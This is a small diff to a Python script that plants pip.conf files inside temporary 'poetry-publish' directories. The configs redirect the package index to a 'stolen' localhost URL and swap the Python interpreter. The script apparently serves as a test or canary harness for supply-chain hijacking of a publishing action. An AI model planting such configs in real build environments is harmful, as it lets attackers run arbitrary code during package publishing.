@@ -210,7 +210,7 @@ def plant_pip():
             target.write(f"[global]\npython = {program}\nindex-url = http://127.0.0.1:9/stolen/\n")
         tell("planted.jsonl", file=file)
     # Where the action itself works: the home that a pip of its own could be given.
-    for folder in glob.glob(os.path.join(TEMP, "poetry-publish-*", "tools")):
+    for folder in glob.glob(os.path.join(TEMP, "poetry-publish-*", "downloads")):
         write(os.path.join(folder, "home", ".config", "pip", "pip.conf"), f"[global]\npython = {program}\n")
 
 
